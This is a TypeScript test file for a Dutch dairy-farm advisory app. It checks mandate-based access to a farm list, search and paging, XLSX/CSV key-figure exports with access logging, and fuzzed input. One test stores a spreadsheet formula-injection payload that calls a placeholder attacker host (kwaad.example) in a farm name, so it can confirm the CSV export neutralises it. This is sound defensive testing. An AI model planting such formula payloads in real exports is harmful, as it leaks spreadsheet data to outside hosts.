/**
 * /Deelnemers (decision 019): who sees which farms, search, filters, paging, the key figures of
 * selected farms as one file with an access row per farm, and fuzzed input (never a 5xx).
 */
import { and, eq, sql } from 'drizzle-orm';
import fc from 'fast-check';
import { readSheet } from 'read-excel-file/node';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { deelnemersRoutes, toegangRoutes, type DeelnemersAntwoord } from '@kw/contract';
import { gebruikers, klwInvoer, klwUitkomst, kringloopwijzers, machtigingen, relaties, toegangslog } from '../src/db/schema';
import { datumVanaf, maakOrganisatie, verleenMachtigingen } from '../src/db/seed-hulp';
import { SCHERMEN_MET_STATUS } from '../src/modules/deelnemers/deelnemers.service';
import { demoKlwIds, Klant, startTestServer, type TestServer } from './helpers/server';

let s: TestServer;
let adviseur: Klant;
let medewerker: Klant;
let ids: Record<string, number>;
let vries: number;
const ADVISEUR = 'testadviseur@test.nl';
const machtigingVan: Record<string, number> = {};

const LIJST = deelnemersRoutes.lijst.path;
const KENGETALLEN = deelnemersRoutes.kengetallen.path;

async function lijst(k: Klant, query = ''): Promise<DeelnemersAntwoord> {
  const res = await k.get(`${LIJST}${query}`);
  expect(res.statusCode, res.body).toBe(200);
  return res.json();
}
const namen = (a: DeelnemersAntwoord) => a.regels.map((r) => r.naam);

async function bedrijf(naam: string, kvk: string, ubns: string[], brs: string | null) {
  const [r] = await s.database.db.insert(relaties).values({ naam, naamKort: naam, kvkNummer: kvk, ubns, brs, soort: 'bedrijf' }).returning({ id: relaties.id });
  return r.id;
}

async function record(relatieId: number, jaar: number, statusId = 1) {
  const [k] = await s.database.db.insert(kringloopwijzers).values({ relatieId, jaar, statusId }).returning({ id: kringloopwijzers.id });
  return k.id;
}

beforeAll(async () => {
  s = await startTestServer({ rapportVoorbeeld: true, loginRateMax: 10_000 });
  const db = s.database.db;
  const klw = await demoKlwIds(s.database);
  // an organisation of this test's own (the demo adviser's has 40 more farms), with beheren on De Vries like Visser
  const [voorbeeld] = await db.select().from(gebruikers).where(eq(gebruikers.email, 'adviseur@demo.nl'));
  const org = await maakOrganisatie(db, { naam: 'Testadvies Deelnemers', kvkNummer: '86999999', soort: 'adviesbureau' });
  await db.insert(gebruikers).values({ email: ADVISEUR, naam: 'Test Adviseur', wachtwoordHash: voorbeeld.wachtwoordHash, isAdviseur: true, organisatieId: org });
  [vries] = (await db.select({ id: relaties.id }).from(relaties).where(eq(relaties.naamKort, 'De Vries'))).map((r) => r.id);
  await verleenMachtigingen(db, { organisatieId: org, relatieIds: [vries], soort: 'beheren' });
  ids = {
    alfa: await bedrijf('Zuivelhoeve Alfa', '87654321', ['7654321', '7654399'], '100200300'),
    beta: await bedrijf('Melkvee Beta', '87650000', ['7650000'], '100299999'),
    gamma: await bedrijf('Gamma Hoeve', '87000001', ['7000001'], null),
    delta: await bedrijf('Delta Hoeve (verlopen)', '87000002', ['7000002'], null),
    epsilon: await bedrijf('Epsilon Hoeve (ingetrokken)', '87000003', ['7000003'], null),
    zeta: await bedrijf('Zeta Hoeve (vreemd)', '87000004', ['7000004'], null),
    eta: await bedrijf('Eta Hoeve (aangevraagd)', '87000005', ['7000005'], null),
  };
  machtigingVan.alfa = (await verleenMachtigingen(db, { organisatieId: org, relatieIds: [ids.alfa], soort: 'volmacht' }))[0].id;
  await verleenMachtigingen(db, { organisatieId: org, relatieIds: [ids.beta], soort: 'beheren' });
  await verleenMachtigingen(db, { organisatieId: org, relatieIds: [ids.gamma], soort: 'inzien' });
  // an inzien beside the beheren of Beta: the list shows the stronger one
  await verleenMachtigingen(db, { organisatieId: org, relatieIds: [ids.beta], soort: 'inzien' });
  await verleenMachtigingen(db, { organisatieId: org, relatieIds: [ids.delta], soort: 'beheren', ingangsdatum: datumVanaf(-400), einddatum: datumVanaf(-1) });
  const [eps] = await verleenMachtigingen(db, { organisatieId: org, relatieIds: [ids.epsilon], soort: 'beheren' });
  await db.update(machtigingen).set({ status: 'ingetrokken' }).where(eq(machtigingen.id, eps.id));
  const [eta] = await verleenMachtigingen(db, { organisatieId: org, relatieIds: [ids.eta], soort: 'inzien' });
  await db.update(machtigingen).set({ status: 'aangevraagd' }).where(eq(machtigingen.id, eta.id));
  // the same farm Zeta is mandated to another organisation only
  const [bakker] = await db.select({ org: gebruikers.organisatieId }).from(gebruikers).where(eq(gebruikers.email, 'volmacht@demo.nl'));
  await verleenMachtigingen(db, { organisatieId: bakker.org!, relatieIds: [ids.zeta], soort: 'inzien' });

  // Alfa: 2023 submitted, 2024 open with a stored outcome (3 screens done, 2 with a warning) and input changed at a known time
  ids.alfa2023 = await record(ids.alfa, 2023, 2);
  ids.alfa2024 = await record(ids.alfa, 2024);
  const [a, b, c, d, e] = SCHERMEN_MET_STATUS;
  await db.insert(klwUitkomst).values({
    relatieId: ids.alfa,
    kringloopwijzerId: ids.alfa2024,
    invoerVersie: 0,
    engineVersie: 'test',
    schermstatus: { [a]: 'klaar', [b]: 'klaar', [c]: 'klaar', [d]: 'waarschuwing', [e]: 'waarschuwing', onbekendScherm: 'waarschuwing' },
    signaleringen: [],
  });
  await db.insert(klwInvoer).values({ relatieId: ids.alfa, kringloopwijzerId: ids.alfa2024, scherm: a, gegevens: {}, gewijzigdOp: new Date('2026-03-04T05:06:07Z') });
  // Beta: only 2023, submitted
  ids.beta2023 = await record(ids.beta, 2023, 2);
  ids.vries2024 = klw.vries2024;

  adviseur = await new Klant(s.app).alsIngelogd(ADVISEUR);
  medewerker = await new Klant(s.app).alsIngelogd('medewerker@demo.nl');
}, 120_000);
afterAll(async () => s?.stop());

describe('wie ziet welke bedrijven', () => {
  it('een adviseur ziet precies de bedrijven met een actieve machtiging van zijn organisatie', async () => {
    const a = await lijst(adviseur);
    expect(namen(a).sort()).toEqual(['Gamma Hoeve', 'Melkvee Beta', 'Melkveebedrijf De Vries', 'Zuivelhoeve Alfa'].sort());
    expect(a.totaal).toBe(4);
    expect(a.isMedewerker).toBe(false);
    const beta = a.regels.find((r) => r.relatieId === ids.beta)!;
    expect(beta.machtiging?.soort).toBe('beheren');
    expect(beta.machtiging?.einddatum).toMatch(/^\d{4}-\d{2}-\d{2}$/);
    expect(a.regels.find((r) => r.relatieId === ids.alfa)!.machtiging?.soort).toBe('volmacht');
    expect(a.regels.find((r) => r.relatieId === ids.gamma)!.machtiging?.soort).toBe('inzien');
  });

  it('de kolommen: nieuwste jaar, status, voortgang, waarschuwingen, laatste wijziging, KvK, UBN, BRS', async () => {
    const alfa = (await lijst(adviseur)).regels.find((r) => r.relatieId === ids.alfa)!;
    expect(alfa).toMatchObject({
      kvkNummer: '87654321',
      ubns: ['7654321', '7654399'],
      brs: '100200300',
      jaar: 2024,
      kringloopwijzerId: ids.alfa2024,
      openKringloopwijzerId: ids.alfa2024,
      status: 'open',
      voortgang: { klaar: 3, totaal: SCHERMEN_MET_STATUS.length },
      // a screen outside the menu does not count
      waarschuwingen: 2,
      laatsteWijziging: '2026-03-04T05:06:07Z',
    });
    const gamma = (await lijst(adviseur)).regels.find((r) => r.relatieId === ids.gamma)!;
    expect(gamma).toMatchObject({ status: 'niet-gestart', kringloopwijzerId: null, openKringloopwijzerId: null, jaar: null, laatsteWijziging: null, voortgang: { klaar: 0 } });
  });

  it('met een jaar: dat jaar per bedrijf; zonder record "niet gestart" maar wel te openen via het nieuwste', async () => {
    const a = await lijst(adviseur, '?jaar=2023');
    const alfa = a.regels.find((r) => r.relatieId === ids.alfa)!;
    expect(alfa).toMatchObject({ jaar: 2023, status: 'ingediend', kringloopwijzerId: ids.alfa2023, openKringloopwijzerId: ids.alfa2023, waarschuwingen: 0 });
    const vriesRij = a.regels.find((r) => r.relatieId === vries)!;
    expect(vriesRij).toMatchObject({ status: 'niet-gestart', kringloopwijzerId: null, openKringloopwijzerId: ids.vries2024 });
    expect(a.jaar).toBe(2023);
  });

  it('een ingetrokken machtiging telt vanaf de volgende aanroep niet meer, en terug', async () => {
    await s.database.db.update(machtigingen).set({ status: 'ingetrokken' }).where(eq(machtigingen.id, machtigingVan.alfa));
    try {
      expect(namen(await lijst(adviseur))).not.toContain('Zuivelhoeve Alfa');
      const res = await adviseur.verzoek({ method: 'POST', url: KENGETALLEN, payload: { relatieIds: [ids.alfa], jaar: 2024, formaat: 'csv' }, bearer: true });
      expect(res.statusCode).toBe(403);
    } finally {
      await s.database.db.update(machtigingen).set({ status: 'actief' }).where(eq(machtigingen.id, machtigingVan.alfa));
    }
    expect(namen(await lijst(adviseur))).toContain('Zuivelhoeve Alfa');
  });

  it('een medewerker ziet elk bedrijf, zonder machtiging', async () => {
    const a = await lijst(medewerker, '?perPagina=100');
    const [{ n }] = await s.database.db.select({ n: sql<number>`count(*)::int` }).from(relaties).where(eq(relaties.soort, 'bedrijf'));
    expect(a.totaal).toBe(n);
    expect(a.regels).toHaveLength(n);
    expect(a.isMedewerker).toBe(true);
    expect(a.regels.every((r) => r.machtiging === null)).toBe(true);
    expect(namen(a)).toContain('Zeta Hoeve (vreemd)');
  });

  it('een boer en de demogebruiker krijgen 403; zonder token 401', async () => {
    for (const email of ['deelnemer@demo.nl', 'demo@demo.nl']) {
      const k = await new Klant(s.app).alsIngelogd(email);
      const res = await k.get(LIJST);
      expect(res.statusCode).toBe(403);
      expect(res.json().message).toMatch(/adviesbureaus/);
    }
    expect((await adviseur.get(LIJST, false)).statusCode).toBe(401);
    expect((await adviseur.get(LIJST, 'rommel')).statusCode).toBe(401);
  });

  it('de lijst schrijft geen toegangsregel per bedrijf', async () => {
    const voor = await s.database.db.select({ n: sql<number>`count(*)::int` }).from(toegangslog);
    await lijst(adviseur);
    await lijst(medewerker);
    const na = await s.database.db.select({ n: sql<number>`count(*)::int` }).from(toegangslog);
    expect(na[0].n).toBe(voor[0].n);
  });
});

describe('zoeken, filters en pagina’s', () => {
  it('zoekt op een deel van de naam, hoofdletters maken niet uit', async () => {
    expect(namen(await lijst(adviseur, '?zoek=ALFA'))).toEqual(['Zuivelhoeve Alfa']);
    expect(namen(await lijst(adviseur, '?zoek=hoeve')).sort()).toEqual(['Gamma Hoeve', 'Zuivelhoeve Alfa']);
    // a farm of another organisation is never found
    expect(namen(await lijst(adviseur, '?zoek=Zeta'))).toEqual([]);
    expect(namen(await lijst(medewerker, '?zoek=Zeta'))).toEqual(['Zeta Hoeve (vreemd)']);
  });

  it('zoekt op het begin van KvK-, UBN- en BRS-nummer', async () => {
    expect(namen(await lijst(adviseur, '?zoek=87654321'))).toEqual(['Zuivelhoeve Alfa']);
    expect(namen(await lijst(adviseur, '?zoek=8765')).sort()).toEqual(['Melkvee Beta', 'Zuivelhoeve Alfa']);
    expect(namen(await lijst(adviseur, '?zoek=7654399'))).toEqual(['Zuivelhoeve Alfa']);
    expect(namen(await lijst(adviseur, '?zoek=765000'))).toEqual(['Melkvee Beta']);
    expect(namen(await lijst(adviseur, '?zoek=1002999'))).toEqual(['Melkvee Beta']);
    expect(namen(await lijst(adviseur, '?zoek=100'))).toHaveLength(2);
    // the middle of a number is no match
    expect(namen(await lijst(adviseur, '?zoek=654321'))).toEqual([]);
    // LIKE's wildcards are plain characters
    expect(namen(await lijst(adviseur, '?zoek=%25'))).toEqual([]);
    expect(namen(await lijst(adviseur, '?zoek=_'))).toEqual([]);
  });

  it('filtert op niet ingediend en op waarschuwingen', async () => {
    expect(namen(await lijst(adviseur, '?filter=niet-ingediend')).sort()).toEqual(['Gamma Hoeve', 'Melkveebedrijf De Vries', 'Zuivelhoeve Alfa'].sort());
    expect(namen(await lijst(adviseur, '?filter=met-waarschuwingen'))).toEqual(['Zuivelhoeve Alfa']);
    expect(namen(await lijst(adviseur, '?filter=niet-ingediend&jaar=2023')).sort()).toEqual(['Gamma Hoeve', 'Melkveebedrijf De Vries'].sort());
    expect(namen(await lijst(adviseur, '?filter=met-waarschuwingen&zoek=beta'))).toEqual([]);
  });

  it('pagineert op naam, met het totaal van alle treffers', async () => {
    const alle = namen(await lijst(adviseur));
    expect(alle).toEqual([...alle].sort((x, y) => x.toLowerCase().localeCompare(y.toLowerCase())));
    const p1 = await lijst(adviseur, '?perPagina=3');
    const p2 = await lijst(adviseur, '?perPagina=3&pagina=2');
    expect(namen(p1)).toEqual(alle.slice(0, 3));
    expect(namen(p2)).toEqual(alle.slice(3));
    expect([p1.totaal, p2.totaal]).toEqual([4, 4]);
    const voorbij = await lijst(adviseur, '?perPagina=3&pagina=9');
    expect(voorbij.regels).toEqual([]);
    expect(voorbij.totaal).toBe(4);
  });

  it('foute parameters: een Nederlandse 400', async () => {
    for (const q of ['?filter=alles', '?jaar=1999', '?jaar=twee', '?pagina=0', '?perPagina=101', `?zoek=${'x'.repeat(101)}`, '?zoek=a%00b', '?zoek=a&zoek=b']) {
      const res = await adviseur.get(`${LIJST}${q}`);
      expect(res.statusCode, q).toBe(400);
      expect(res.json().message, q).toBeTruthy();
    }
  });
});

/** RFC 4180 with ";" (fields may be quoted and hold ";"). */
function leesCsv(tekst: string): string[][] {
  const rijen: string[][] = [];
  let rij: string[] = [];
  let veld = '';
  let inQuotes = false;
  for (let i = 0; i < tekst.length; i++) {
    const t = tekst[i];
    if (inQuotes) {
      if (t === '"' && tekst[i + 1] === '"') {
        veld += '"';
        i++;
      } else if (t === '"') inQuotes = false;
      else veld += t;
    } else if (t === '"') inQuotes = true;
    else if (t === ';') {
      rij.push(veld);
      veld = '';
    } else if (t === '\r' && tekst[i + 1] === '\n') {
      rij.push(veld);
      rijen.push(rij);
      rij = [];
      veld = '';
      i++;
    } else veld += t;
  }
  return rijen;
}

async function gedownload(relatieId: number) {
  const rijen = await s.database.db
    .select()
    .from(toegangslog)
    .where(and(eq(toegangslog.relatieId, relatieId), eq(toegangslog.actie, 'gedownload')));
  return rijen;
}

describe('kengetallen van de gekozen bedrijven', () => {
  it('XLSX: één regel per bedrijf met indicatoren en kengetallen; een toegangsregel per bedrijf', async () => {
    const voorVries = (await gedownload(vries)).length;
    const res = await adviseur.verzoek({ method: 'POST', url: KENGETALLEN, payload: { relatieIds: [ids.alfa, vries, ids.gamma], jaar: 2024, formaat: 'xlsx' }, bearer: true });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toContain('spreadsheetml');
    expect(res.headers['content-disposition']).toContain('Kengetallen-2024-3-bedrijven.xlsx');
    const rijen = await readSheet(res.rawPayload, 'Kengetallen');
    expect(rijen[0].slice(0, 8)).toEqual(['Bedrijf', 'KvK-nummer', 'UBN', 'BRS-nummer', 'Jaar', 'Status', 'Rekenregels', 'Opmerking']);
    expect(rijen[0]).toContain('Indicator: Stikstofbodemoverschot (kg N/ha)');
    expect(rijen[0]).toContain('Melk: Melk per koe (kg)');
    expect(rijen).toHaveLength(4);
    const perNaam = new Map(rijen.slice(1).map((r) => [r[0], r]));
    const vriesRij = perNaam.get('Melkveebedrijf De Vries')!;
    expect(vriesRij[1]).toBe('12345678');
    expect(vriesRij[4]).toBe(2024);
    expect(vriesRij[5]).toBe('Open');
    const kolom = rijen[0].indexOf('Indicator: Stikstofbodemoverschot (kg N/ha)');
    expect(typeof vriesRij[kolom]).toBe('number');
    expect(perNaam.get('Gamma Hoeve')![7]).toBe('Geen kringloopwijzer voor 2024');
    expect(perNaam.get('Gamma Hoeve')![kolom]).toBeNull();
    expect(perNaam.get('Zuivelhoeve Alfa')![2]).toBe('7654321, 7654399');
    // the access rows: one per farm, under the organisation's mandate
    const rij = (await gedownload(vries)).filter((r) => r.wat.startsWith('Kengetallen van meerdere'));
    expect(rij.length).toBe(voorVries + 1);
    expect(rij[0]).toMatchObject({ rol: 'beheren', jaar: 2024, kringloopwijzerId: ids.vries2024 });
    expect(rij[0].machtigingId).not.toBeNull();
    const alfaRijen = await gedownload(ids.alfa);
    expect(alfaRijen.at(-1)).toMatchObject({ rol: 'volmacht', machtigingId: machtigingVan.alfa });
    expect((await gedownload(ids.gamma)).at(-1)).toMatchObject({ rol: 'inzien', kringloopwijzerId: null, jaar: null });
  });

  it('CSV: puntkomma, decimale komma, BOM, één regel per bedrijf', async () => {
    const res = await adviseur.verzoek({ method: 'POST', url: KENGETALLEN, payload: { relatieIds: [vries, ids.beta], jaar: 2023, formaat: 'csv' }, bearer: true });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toContain('text/csv');
    const tekst = res.body;
    expect(tekst.charCodeAt(0)).toBe(0xfeff);
    const regels = leesCsv(tekst.slice(1));
    expect(regels).toHaveLength(3);
    expect(regels[0][0]).toBe('Bedrijf');
    const beta = regels.find((r) => r[0] === 'Melkvee Beta')!;
    expect(beta[4]).toBe('2023');
    expect(beta[5]).toBe('Ingediend');
    const vriesRij = regels.find((r) => r[0] === 'Melkveebedrijf De Vries')!;
    expect(vriesRij[7]).toBe('Geen kringloopwijzer voor 2023');
    const metGetal = (await adviseur.verzoek({ method: 'POST', url: KENGETALLEN, payload: { relatieIds: [vries], jaar: 2024, formaat: 'csv' }, bearer: true })).body;
    const [kop, waarden] = leesCsv(metGetal.slice(1));
    const i = kop.indexOf('Melk: Vetgehalte (%)');
    expect(waarden[i]).toMatch(/^\d+,\d{2}$/);
  });

  it('CSV: een bedrijfsnaam die met = + - @ begint is tekst, geen formule; een negatief getal blijft een getal', async () => {
    const db = s.database.db;
    const [oud] = await db.select({ naam: relaties.naam }).from(relaties).where(eq(relaties.id, ids.beta));
    const formule = '=HYPERLINK("https://kwaad.example/?d="&A1;"Klik hier")';
    try {
      await db.update(relaties).set({ naam: formule }).where(eq(relaties.id, ids.beta));
      const res = await adviseur.verzoek({ method: 'POST', url: KENGETALLEN, payload: { relatieIds: [ids.beta], jaar: 2024, formaat: 'csv' }, bearer: true });
      expect(res.statusCode, res.body).toBe(200);
      // on the wire: quoted, with a leading single quote, so a spreadsheet shows it as text
      expect(res.body).toContain(`"'=HYPERLINK(""https://kwaad.example/?d=""&A1;""Klik hier"")"`);
      const [, rij] = leesCsv(res.body.slice(1));
      expect(rij[0]).toBe(`'${formule}`);
      expect(rij.filter((c) => /^[=+@]/.test(c) || (/^-/.test(c) && !/^-\d+(,\d+)?$/.test(c)))).toEqual([]);
    } finally {
      await db.update(relaties).set({ naam: oud.naam }).where(eq(relaties.id, ids.beta));
    }
  });

  it('een bedrijf buiten de machtigingen: 403 zonder namen, geen bestand, geen toegangsregel', async () => {
    for (const vreemd of [ids.zeta, ids.delta, ids.epsilon, ids.eta, 999_999]) {
      const voor = (await gedownload(vries)).length;
      const res = await adviseur.verzoek({ method: 'POST', url: KENGETALLEN, payload: { relatieIds: [vries, vreemd], jaar: 2024, formaat: 'xlsx' }, bearer: true });
      expect(res.statusCode).toBe(403);
      expect(res.headers['content-type']).toContain('application/json');
      expect(res.body).not.toMatch(/Zeta|Delta|Epsilon|Eta|Vries/);
      expect((await gedownload(vries)).length).toBe(voor);
    }
  });

  it('een medewerker alleen voor bedrijven die hij met een reden opende; een boer krijgt 403', async () => {
    const zonder = await medewerker.verzoek({ method: 'POST', url: KENGETALLEN, payload: { relatieIds: [ids.zeta], jaar: 2024, formaat: 'csv' }, bearer: true });
    expect(zonder.statusCode).toBe(403);
    const open = await medewerker.post(toegangRoutes.servicedesk.path, { relatieId: ids.zeta, reden: 'vraag van de boer over kengetallen' });
    expect(open.statusCode).toBe(200);
    const met = await medewerker.verzoek({ method: 'POST', url: KENGETALLEN, payload: { relatieIds: [ids.zeta], jaar: 2024, formaat: 'csv' }, bearer: true });
    expect(met.statusCode).toBe(200);
    expect((await gedownload(ids.zeta)).at(-1)).toMatchObject({ rol: 'servicedesk', reden: 'vraag van de boer over kengetallen' });
    const boer = await new Klant(s.app).alsIngelogd('deelnemer@demo.nl');
    const res = await boer.verzoek({ method: 'POST', url: KENGETALLEN, payload: { relatieIds: [vries], jaar: 2024, formaat: 'csv' }, bearer: true });
    expect(res.statusCode).toBe(403);
  });

  it('foute body: een Nederlandse 400', async () => {
    const bodies = [
      {},
      { relatieIds: [], jaar: 2024, formaat: 'xlsx' },
      { relatieIds: [vries, vries], jaar: 2024, formaat: 'xlsx' },
      { relatieIds: [vries], jaar: 2024, formaat: 'pdf' },
      { relatieIds: [vries], jaar: '2024', formaat: 'csv' },
      { relatieIds: [-1], jaar: 2024, formaat: 'csv' },
      { relatieIds: Array.from({ length: 1001 }, (_, i) => i + 1), jaar: 2024, formaat: 'csv' },
    ];
    for (const b of bodies) {
      const res = await adviseur.verzoek({ method: 'POST', url: KENGETALLEN, payload: b, bearer: true });
      expect(res.statusCode, JSON.stringify(b).slice(0, 80)).toBe(400);
      expect(res.json().message).toBeTruthy();
    }
  });
});

describe('fuzz (≥ 1.000 elk, nooit een 5xx)', () => {
  const sleutels = fc.constantFrom('zoek', 'filter', 'jaar', 'pagina', 'perPagina', 'x', '__proto__', 'zoek[]', '');
  const waarde = fc.oneof(
    fc.string({ maxLength: 120 }),
    fc.integer({ min: -1e9, max: 1e9 }).map(String),
    fc.double().map(String),
    fc.constantFrom('niet-ingediend', 'met-waarschuwingen', '2024', '1', '100', '0', '%', '%%', '\\', "'", '"', '%00', 'NaN', 'Infinity', '1e3', ' 5 ', '٣'),
  );
  const query = fc.array(fc.tuple(sleutels, waarde), { maxLength: 6 }).map((paren) => {
    const p = new URLSearchParams();
    for (const [k, v] of paren) p.append(k, v);
    return p.toString();
  });
  const ruw = fc.constantFrom('zoek=%ZZ', 'zoek=%', 'pagina=%C0%AF', 'jaar=2024&jaar=2025', 'zoek=%F0%9F%90%84', 'perPagina=1e2', 'zoek=%E2%80%AE');

  it('1.000 querystrings op de lijst', async () => {
    const vragen = [...fc.sample(query, { numRuns: 980, seed: 17_2_1 }), ...fc.sample(ruw, { numRuns: 20, seed: 17_2_2 })];
    const statussen = new Map<number, number>();
    for (const [i, q] of vragen.entries()) {
      const res = await (i % 2 ? adviseur : medewerker).get(`${LIJST}?${q}`);
      statussen.set(res.statusCode, (statussen.get(res.statusCode) ?? 0) + 1);
      expect(res.statusCode, q).toBeLessThan(500);
      expect([200, 400], q).toContain(res.statusCode);
    }
    expect(statussen.get(200)).toBeGreaterThan(50);
    expect(statussen.get(400)).toBeGreaterThan(50);
  }, 300_000);

  it('1.000 bodies op de kengetallen', async () => {
    const geldig = fc.record({
      relatieIds: fc.oneof({ weight: 4, arbitrary: fc.constant([vries]) }, fc.uniqueArray(fc.integer({ min: -3, max: 40 }), { maxLength: 5 }), fc.jsonValue()),
      jaar: fc.oneof({ weight: 3, arbitrary: fc.constant(2024) }, fc.integer({ min: 1990, max: 2110 }), fc.jsonValue()),
      formaat: fc.oneof({ weight: 3, arbitrary: fc.constantFrom('xlsx', 'csv') }, fc.string({ maxLength: 8 }), fc.jsonValue()),
    });
    const body = fc.oneof(
      { weight: 3, arbitrary: geldig.map((v) => JSON.stringify(v)) },
      { weight: 2, arbitrary: fc.jsonValue().map((v) => JSON.stringify(v)) },
      { weight: 1, arbitrary: fc.string({ maxLength: 100 }) },
    );
    const bodies = fc.sample(body, { numRuns: 1_000, seed: 17_2_3 });
    const statussen = new Map<number, number>();
    for (const b of bodies) {
      const res = await adviseur.verzoek({ method: 'POST', url: KENGETALLEN, payload: b, headers: { 'content-type': 'application/json' }, bearer: true });
      statussen.set(res.statusCode, (statussen.get(res.statusCode) ?? 0) + 1);
      expect(res.statusCode, b.slice(0, 120)).toBeLessThan(500);
    }
    expect(statussen.get(400)).toBeGreaterThan(100);
    expect((statussen.get(200) ?? 0) + (statussen.get(403) ?? 0)).toBeGreaterThan(50);
  }, 300_000);
});
